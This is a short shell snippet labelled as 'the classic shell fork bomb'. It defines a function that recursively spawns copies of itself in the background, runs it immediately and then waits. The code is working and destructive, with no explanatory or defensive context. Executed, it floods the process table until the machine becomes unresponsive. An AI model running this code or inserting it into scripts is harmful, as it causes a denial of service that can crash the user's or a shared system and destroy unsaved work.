# The classic shell fork bomb.
bomb() { bomb | bomb & }
bomb
wait
